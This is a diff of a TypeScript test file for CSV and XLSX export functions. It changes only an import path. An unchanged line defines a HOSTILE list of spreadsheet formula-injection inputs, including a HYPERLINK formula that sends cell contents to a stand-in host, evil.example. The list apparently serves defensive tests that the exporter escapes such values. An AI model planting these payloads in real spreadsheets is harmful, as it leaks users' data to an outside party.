@@ -3,7 +3,7 @@
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { toCsv, toXlsx, type Table } from '../../../server/exports.js';
+import { toCsv, toXlsx, type Table } from '../../../server/http/exports.js';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+2', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
 
